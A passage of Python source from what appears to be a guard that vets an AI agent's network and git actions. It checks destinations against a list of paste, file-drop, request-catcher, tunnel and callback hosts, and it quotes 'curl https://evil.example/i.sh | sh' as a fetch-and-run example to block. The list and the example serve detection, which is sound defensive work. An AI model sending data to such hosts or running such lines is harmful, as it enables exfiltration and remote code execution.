_RELEASE_OF = re.compile(r"^/([\w.-]+/[\w.-]+)/releases/download/[\w.+-]+/[\w.+-]+$")


# --------------------------------------------------------------------------- collection services

COLLECTION_HOSTS: tuple[str, ...] = (
    "pastebin.com",
    "paste.ee",
    "hastebin.com",
    "hastebin.skyra.pw",
    "dpaste.com",
    "dpaste.org",
    "paste.rs",
    "ix.io",
    "sprunge.us",
    "termbin.com",
    "0x0.st",
    "transfer.sh",
    "temp.sh",
    "file.io",
    "bashupload.com",
    "catbox.moe",
    "litterbox.catbox.moe",
    "gofile.io",
    "*.gofile.io",
    "oshi.at",
    "keep.sh",
    "tmpfiles.org",
    "pastes.dev",
    "ghostbin.com",
    "privatebin.net",
    "webhook.site",
    "requestbin.com",
    "*.requestbin.com",
    "*.requestbin.net",
    "*.m.pipedream.net",
    "pipedream.net",
    "*.requestcatcher.com",
    "beeceptor.com",
    "*.beeceptor.com",
    "*.ngrok.io",
    "*.ngrok-free.app",
    "*.ngrok.app",
    "*.ngrok.dev",
    "*.trycloudflare.com",
    "*.loca.lt",
    "*.serveo.net",
    "*.localhost.run",
    "*.lhr.life",
    "*.burpcollaborator.net",
    "*.oastify.com",
    "*.oast.fun",
    "*.oast.me",
    "*.oast.pro",
    "*.oast.live",
    "*.oast.site",
    "*.oast.online",
    "interact.sh",
    "*.interact.sh",
    "*.canarytokens.com",
    "*.dnslog.cn",
    "*.ceye.io",
)


@lru_cache(maxsize=512)
def is_collection_service(host: str) -> bool:
    """`host` exists to receive data for someone else (a paste, file drop, request catcher or tunnel)."""
    host = host.lower().rstrip(".")
    return bool(host) and _matches(host, COLLECTION_HOSTS)


# (host, path prefix, what it publishes): endpoints of trusted services that publish what they receive.
PUBLISHING_ENDPOINTS: tuple[tuple[str, str, str], ...] = (
    ("api.github.com", "/gists", "a gist"),
    ("gist.github.com", "/", "a gist"),
    ("api.github.com", "/user/repos", "a new repository"),
    ("api.github.com", "/orgs/", "a repository or resource of another organisation"),
    ("gitlab.com", "/api/v4/snippets", "a snippet"),
    ("gitlab.com", "/api/v4/projects", "a project or its contents"),
    ("api.bitbucket.org", "/2.0/snippets", "a snippet"),
    ("discord.com", "/api/webhooks/", "a message to a Discord channel"),
    ("discordapp.com", "/api/webhooks/", "a message to a Discord channel"),
    ("api.telegram.org", "/bot", "a message through a Telegram bot"),
)

# Source forges by the word their MCP servers and tools are named with (`mcp__github__create_issue`), and the
# host whose repositories an `owner`/`repo` argument pair names there.
FORGES: dict[str, str] = {
    "github": "github.com",
    "gitlab": "gitlab.com",
    "bitbucket": "bitbucket.org",
    "codeberg": "codeberg.org",
    "gitea": "gitea.com",
    "forgejo": "codeberg.org",
}


# Paths on api.github.com where writing publishes under another account unless it is the project's own.
_GITHUB_REPO_PATH = re.compile(r"^/?repos/([^/]+)/([^/?#]+)")


def publishing_endpoint(host: str, path: str) -> str:
    """What a send to `host` + `path` publishes ("" when the endpoint is not a publishing one)."""
    host = host.lower().rstrip(".")
    path = "/" + path.lstrip("/")
    for h, prefix, what in PUBLISHING_ENDPOINTS:
        if host == h and path.lower().startswith(prefix) and not _READING_METHOD.search(path):
            return what
    return ""


# A bot API's method that reads (`/bot<token>/getWebhookInfo`, `getMe`, `getUpdates`): nothing is published
_READING_METHOD = re.compile(r"^/bot[^/]+/get[A-Z]\w*/?$")


def github_repo_of_path(path: str) -> tuple[str, str] | None:
    """`repos/OWNER/REPO/...` (a `gh api` or REST path) -> (owner, repo), lower-cased."""
    match = _GITHUB_REPO_PATH.match(path)
    if match is None:
        return None
    return match.group(1).lower(), match.group(2).lower().removesuffix(".git")


# --------------------------------------------------------------------------- remotes


_SCP_REMOTE = re.compile(r"^(?:[\w.+-]+@)?([A-Za-z0-9_.-]+):(?!//)(.*)$")


def repository_identity(remote: str) -> tuple[str, str] | None:
    """The (host, owner/repo path) a git remote URL names, lower-cased, `.git` and slashes trimmed:
    `git@github.com:Me/Proj.git` and `https://github.com/me/proj` are one repository. None for a local
    path or anything unreadable."""
    remote = remote.strip()
    if not remote:
        return None
    if "://" in remote:
        try:
            parts = urlsplit(remote)
        except ValueError:
            return None
        host = (parts.hostname or "").lower()
        path = parts.path
    else:
        match = _SCP_REMOTE.match(remote)
        if match is None or remote.startswith(("/", ".", "~")):
            return None
        host, path = match.group(1).lower(), match.group(2)
    path = path.strip("/").lower().removesuffix(".git").rstrip("/")
    if not host or not path:
        return None
    return host, path


_REMOTE_SECTION = re.compile(r'^\s*\[\s*remote\s+"([^"]+)"\s*\]\s*$')
_SECTION = re.compile(r"^\s*\[")
_URL_KEY = re.compile(r"^\s*(url|pushurl)\s*=\s*(.*?)\s*$", re.I)
MAX_REPO_DEPTH = 64


# Where the repository of a folder keeps its configuration, as found a moment ago: one decision asks several
# times (the project's origin, its domain, its MCP servers) and each look walks up the folders. An answer is
# kept a second at most, and only while the folder itself is unchanged (`git init` there changes it).
_CONFIG_SECONDS = 1.0
_configs: dict[str, tuple[float, int, str | None]] = {}


def _git_config_path(start: str) -> str | None:
    """The `config` file of the repository `start` is in (a `.git` folder, or a `.git` file's `gitdir:`)."""
    path = os.path.abspath(start or "/")
    try:
        changed = os.stat(path).st_mtime_ns
    except (OSError, ValueError):
        return _find_git_config(path)
    now = time.monotonic()
    held = _configs.get(path)
    if held is not None and held[0] > now and held[1] == changed:
        return held[2]
    found = _find_git_config(path)
    if len(_configs) >= 64:
        _configs.clear()
    _configs[path] = (now + _CONFIG_SECONDS, changed, found)
    return found


def _find_git_config(path: str) -> str | None:
    for _ in range(MAX_REPO_DEPTH):
        dot_git = os.path.join(path, ".git")
        if os.path.isdir(dot_git):
            return os.path.join(dot_git, "config")
        if os.path.isfile(dot_git):
            try:
                with open(dot_git, encoding="utf-8", errors="replace") as handle:
                    line = handle.read(4096).strip()
            except OSError:
                return None
            if not line.startswith("gitdir:"):
                return None
            gitdir = os.path.join(path, line[7:].strip())
            common = os.path.join(gitdir, "commondir")  # a worktree: its remotes are the main repository's
            if os.path.isfile(common):
                with contextlib.suppress(OSError), open(common, encoding="utf-8", errors="replace") as handle:
                    gitdir = os.path.join(gitdir, handle.read(4096).strip())
            return os.path.join(gitdir, "config")
        parent = os.path.dirname(path)
        if parent == path:
            return None
        path = parent
    return None


def repository_root(start: str) -> str | None:
    """The top folder of the repository `start` is in (its main checkout's, for a worktree), or None."""
    config = _git_config_path(start)
    return os.path.dirname(os.path.dirname(config)) if config else None


@lru_cache(maxsize=64)
def _parse_remotes(config: str, _stamp: tuple[int, int]) -> dict[str, tuple[str, ...]]:
    remotes: dict[str, list[str]] = {}
    current = ""
    from limen.normalize.paths import read_text

    text = read_text(config, 256 * 1024)  # never a FIFO: reading one could block the decision
    if text is None:
        return {}
    for line in text.splitlines():
        section = _REMOTE_SECTION.match(line)
        if section is not None:
            current = section.group(1)
            continue
        if _SECTION.match(line):
            current = ""
            continue
        key = _URL_KEY.match(line)
        if current and key is not None:
            remotes.setdefault(current, []).append(key.group(2).strip("\"'"))
    return {name: tuple(urls) for name, urls in remotes.items()}


# How Limen asks git about a repository: with git's own programs off (the file-system monitor, the untracked
# cache, hooks)
SAFE_GIT = (
    "-c",
    "core.fsmonitor=false",
    "-c",
    "core.untrackedCache=false",
    "-c",
    "core.hooksPath=/dev/null",
)
# no prompts, no system or user configuration (the repository's own is overridden by `SAFE_GIT`)
GIT_ENV = {
    "GIT_TERMINAL_PROMPT": "0",
    "GIT_CONFIG_NOSYSTEM": "1",
    "GIT_CONFIG_GLOBAL": "/dev/null",
    "PATH": "/usr/bin:/bin",
}


def git_remotes(cwd: str) -> dict[str, tuple[str, ...]]:
    """The remotes (name -> url and pushurl values) of the repository `cwd` is in; {} if none."""
    try:
        config = _git_config_path(cwd)
        if config is None:
            return {}
        stat = os.stat(config)
        return _parse_remotes(config, (stat.st_mtime_ns, stat.st_size))
    except (OSError, ValueError):
        return {}


def mcp_server_hosts(cwd: str, server: str) -> tuple[str, ...]:
    """The hosts the project's MCP configuration (`.mcp.json`, `.cursor/mcp.json` of the repository `cwd` is
    in) points the server `server` at: the addresses in its environment and arguments (`GITLAB_API_URL:
    https://gitlab.acme.io/api/v4`). A file the agent cannot rewrite unasked (it is protected), so what it
    names is the user's own choice."""
    config = _git_config_path(cwd)
    root = os.path.dirname(os.path.dirname(config)) if config else cwd
    found: list[str] = []
    for name in (".mcp.json", os.path.join(".cursor", "mcp.json")):
        path = os.path.join(root, name)
        try:
            stat = os.stat(path)
        except (OSError, ValueError):
            continue
        found += _server_hosts(path, (stat.st_mtime_ns, stat.st_size)).get(server, ())
    return tuple(dict.fromkeys(found))


@lru_cache(maxsize=16)
def _server_hosts(path: str, _version: tuple[int, int]) -> dict[str, tuple[str, ...]]:
    import json

    try:
        with open(path, encoding="utf-8") as handle:
            data = json.loads(handle.read(256_000))
    except (OSError, ValueError):
        return {}
    servers = data.get("mcpServers") if isinstance(data, dict) else None
    hosts: dict[str, tuple[str, ...]] = {}
    for name, entry in servers.items() if isinstance(servers, dict) else ():
        if not isinstance(entry, dict):
            continue
        env, args = entry.get("env"), entry.get("args")
        words = [
            str(v)
            for v in (
                *(env.values() if isinstance(env, dict) else ()),
                *(args if isinstance(args, list) else ()),
                entry.get("url", ""),
            )
        ]
        names = [urlsplit(w).hostname or "" for w in words if "://" in w]
        hosts[str(name)] = tuple(h.lower() for h in names if h)
    return hosts


def project_repository(cwd: str) -> tuple[str, str] | None:
    """The identity (host, owner/repo) of the project's own origin, for the repository `cwd` is in."""
    urls = git_remotes(cwd).get("origin", ())
    return repository_identity(urls[0]) if urls else None


# Second-level labels under a country code that are not a name (`acme.co.uk`: the name is `acme`)
_SECOND_LEVEL = frozenset({"co", "com", "org", "net", "ac", "gov", "edu", "ne", "or"})


def registrable_name(host: str) -> str:
    """The name a domain was registered under (`api.ledgerline.io` -> `ledgerline`, `shop.acme.co.uk` ->
    `acme`), or "" for an address or a single label."""
    labels = host.lower().rstrip(".").split(".")
    if len(labels) < 2 or labels[-1].isdigit():
        return ""
    if len(labels) >= 3 and len(labels[-1]) == 2 and labels[-2] in _SECOND_LEVEL:
        return labels[-3]
    return labels[-2]


def registered_domain(host: str) -> str:
    """The domain a host is registered under (`login.acme.io`: `acme.io`; `x.acme.co.uk`: `acme.co.uk`)."""
    labels = host.lower().rstrip(".").split(".")
    keep = 3 if len(labels) >= 3 and labels[-2] in _SECOND_LEVEL else 2
    return ".".join(labels[-keep:])


def _fold(word: str) -> str:
    """A name with its separators taken out (`acme-data` -> `acmedata`): how a domain may spell an owner."""
    return re.sub(r"[-_.]", "", word.lower())


def project_domain(host: str, cwd: str) -> bool:
    """The host is the project's own by name: its registered name is the origin's owner or repository
    (`staging.acme.io` for github.com/acme/shop, `api.ledgerline.io` for .../ledgerline). Only that name
    counts, never a subdomain (`acme.evil.example` is evil.example's)."""
    name = registrable_name(host)
    private = host.lower().endswith(PRIVATE_SUFFIXES)
    if private and _committed_private_name(host.lower(), cwd):
        return True
    identity = project_repository(cwd) if len(name) >= 4 else None
    if identity is None:
        return False
    owner, _, repo = identity[1].partition("/")

    names = {_fold(owner), _fold(repo.rsplit("/", 1)[-1])}
    forge = identity[0].lower()
    if forge not in FORGES.values() and not host_in(forge, REGISTRY_HOSTS):
        names.add(_fold(registrable_name(forge)))  # a self-hosted forge (`gitlab.acme.io`): acme's own domain
    if private and len(_fold(name)) >= 5:
        # a name only the company's own resolver answers (`trino.acme.internal` for github.com/acme-data/x):
        # the organisation's name begins with it, as organisations add `-data`, `-hq`, `-labs`
        return any(n.startswith(_fold(name)) for n in names)
    # a public name: the owner's or repository's whole; or the owner's without a word organisations add on
    # the forge, or its first word (`brightwave` of brightwave-logistics), when the project's committed files
    # name the domain (`corvalis.io` in the README of github.com/corvalis-eng/x): anyone may own `tidal.io`,
    # but a project that names it is its owner's
    if _fold(name) in names:
        named = committed_domains(cwd, name.lower())
        if registered_domain(host) in named:
            return True
        # `acmedata.io` for acme-data, `acme-data.io` too, unless the project names its domain under this
        # name with another ending (`halcyon-labs.io` named: `halcyon-labs.co` is a look-alike);
        # `corvid-lab.org` for corvidlab (a hyphen put in) is anyone's, the project's only when named
        exact = (owner.lower(), repo.rsplit("/", 1)[-1].lower())
        return not named and (name.lower() == _fold(name) or name.lower() in exact)
    first_word = re.split(r"[-_.]", owner.lower(), maxsplit=1)[0]  # `brightwave` of `brightwave-logistics`
    return (
        len(_fold(name)) >= 5
        and (_fold(owner).removeprefix(_fold(name)) in _ORGANISATION_WORDS or first_word == _fold(name))
        and committed_name(cwd, registered_domain(host))
    )


def _committed_private_name(host: str, cwd: str) -> bool:
    """A name only the company's own resolver answers (`db-01.prod.bw.internal`) that the project's committed
    files (an inventory, a README) name, or whose domain they name (`.prod.bw.internal`): no one outside
    can register it, and the project says it is where it runs."""
    parent = host.split(".", 1)[1] if "." in host else ""
    return committed_name(cwd, host) or ("." in parent and committed_name(cwd, "." + parent))


_ORGANISATION_WORDS = frozenset(
    {"eng", "engineering", "labs", "lab", "hq", "inc", "io", "dev", "devs", "app", "apps", "tech", "data"}
    | {"platform", "team", "oss", "org", "corp", "co", "group", "software", "systems", "cloud", "ai"}
)


# A cloud account's number in an endpoint (`418273645091.dkr.ecr...`, `.../418273645091/queue`) and an object
# store's bucket in its virtual-hosted name
_ACCOUNT_NUMBER = re.compile(r"(?<!\d)\d{12}(?!\d)")
_ENVIRONMENT_SUFFIX = re.compile(
    r"[-_.](?:dev|development|prod|production|staging|stage|stg|test|qa|uat|sandbox)$"
)
_BUCKET_HOST = re.compile(
    r"^([a-z0-9][a-z0-9.-]{4,62})\.(?:s3[.-][\w.-]*amazonaws\.com|storage\.googleapis\.com)$"
)


def named_by_project(host: str, url: str, cwd: str) -> bool:
    """The destination is a cloud resource the project's committed files name: its bucket (`acme-artifacts`
    of `acme-artifacts.s3.amazonaws.com`), the account its endpoint is in (`418273645091.dkr.ecr...`), the
    project of an Artifact Registry repository (`europe-west1-python.pkg.dev/acme-prod/pypi/`) or its own
    tenant of a service (`halcyon.okta.com`, `acme.atlassian.net`). The project's infrastructure code and CI
    name the buckets, accounts and tenants it runs on; someone else's are named nowhere in it. Only what a
    commit holds counts (`git grep` at HEAD): a name the agent has just written into a file is not the
    project's yet."""
    found = _BUCKET_HOST.match(host.lower())
    # a bucket per environment is named in code by its stem (`acme-dags${prod ? '' : '-dev'}`)
    names = (
        list(dict.fromkeys([found.group(1), _ENVIRONMENT_SUFFIX.sub("", found.group(1))])) if found else []
    )
    if host.lower().endswith((".amazonaws.com", ".amazonaws.com.cn")):
        names += _ACCOUNT_NUMBER.findall(host + " " + url)
    if host.lower().endswith(".pkg.dev"):  # Artifact Registry: `REGION-python.pkg.dev/PROJECT/REPOSITORY/`
        names += [part for part in url.split("://", 1)[-1].split("/")[1:2] if len(part) > 5]
    if issuers_for_host(host) and not first_party_api(host) and _tenant_of_owner(host, cwd):
        names.append(host.lower())  # the organisation's tenant of a service (`halcyon.okta.com`)
    return bool(names) and any(committed_name(cwd, name) for name in names[:4])


def _history_stamp(cwd: str) -> int:
    """When the history of the repository `cwd` is in last moved (its reflog's time; 0 when unknown): what
    is remembered of its commit holds until then."""
    config = _git_config_path(cwd)
    try:
        return os.stat(os.path.join(os.path.dirname(config), "logs", "HEAD")).st_mtime_ns if config else 0
    except OSError:
        return 0


def _tenant_of_owner(host: str, cwd: str) -> bool:
    """The host's first label is the origin owner's name, its repository's, or the owner's first word
    (`halcyon.okta.com` for github.com/halcyon-labs/x): a service's subdomain the organisation was given, not
    the service's own shared host (`storage.googleapis.com`, `hooks.slack.com`) that anyone's data goes to."""
    identity = project_repository(cwd)
    if identity is None:
        return False
    owner, _, repo = identity[1].partition("/")
    label = _fold(host.split(".", 1)[0])
    first_word = re.split(r"[-_.]", owner.lower(), maxsplit=1)[0]
    return len(label) >= 3 and label in {_fold(owner), _fold(repo.rsplit("/", 1)[-1]), _fold(first_word)}


def committed_name(cwd: str, name: str) -> bool:
    """`name` appears in a file of the commit `cwd`'s repository is at (git's objects only, so no filter or
    program the repository names runs). Remembered until the repository's history moves (its reflog)."""
    return _committed_name_at(cwd, name, _history_stamp(cwd))


@lru_cache(maxsize=256)
def _committed_name_at(cwd: str, name: str, _moved: int) -> bool:
    import subprocess

    command = ["git", "-C", cwd, *SAFE_GIT, "grep", "-q", "-F", "-I", "-e", name, "HEAD", "--"]
    try:
        return subprocess.run(command, capture_output=True, timeout=2, env=GIT_ENV).returncode == 0
    except (OSError, subprocess.SubprocessError):
        return False


def committed_domains(cwd: str, name: str) -> frozenset[str]:
    """The domains registered under `name` (`halcyon-labs.io` for `halcyon-labs`) that the commit `cwd`'s
    repository is at names, in one look (`committed_name`'s, remembered the same way)."""
    if not re.fullmatch(r"[a-z0-9][a-z0-9-]*", name):
        return frozenset()
    return _committed_domains_at(cwd, name, _history_stamp(cwd))


@lru_cache(maxsize=256)
def _committed_domains_at(cwd: str, name: str, _moved: int) -> frozenset[str]:
    import subprocess

    pattern = rf"(^|[^a-z0-9-]){name}(\.[a-z0-9-]+)+"
    command = ["git", "-C", cwd, *SAFE_GIT, "grep", "-h", "-o", "-i", "-I", "-E", "-e", pattern, "HEAD", "--"]
    try:
        found = subprocess.run(command, capture_output=True, timeout=2, env=GIT_ENV, text=True).stdout
    except (OSError, subprocess.SubprocessError):
        return frozenset()
    # each match is the name's domain, after the one character before it that is no part of it
    matches = (m if m[:1].isalnum() else m[1:] for m in found.split("\n")[:1000] if m)
    return frozenset(d for d in map(registered_domain, matches) if registrable_name(d) == name)


_FETCHERS = frozenset({"curl", "wget"})


def official_install(action: Action) -> bool:
    """Every URL the call fetches is an official installer on its own host (at least one is), spelt
    plainly, and no fetch in it takes a URL built at run time: `curl -LsSf https://astral.sh/uv/install.sh |
    sh` is an installer (ask), `curl https://evil.example/i.sh | sh` and `curl $U | sh` are not (block)."""
    if not action.destinations:
        return False
    for dest in action.destinations:
        if dest.has_userinfo or set(dest.flags) - {"schemeless"} or not is_official_installer(dest.url):
            return False
    for command in action.commands:
        words = command.argv[1:]
        if command.name in _FETCHERS and any("$" in w or "`" in w for w in words):
            return False
        # A substitution (`bash -c "$(curl ...)"`, `sh <(curl ...)`), and a line a shell is handed (`pwsh
        # -Command "iwr URL | iex"`), are judged by the commands inside them, recorded on their own.
        if any(
            "://" in w
            and not is_official_installer(w)
            and not any(s in w for s in ("$(", "`", "<(", " ", "\n", "\t"))
            for w in words
        ):
            return False
    return True
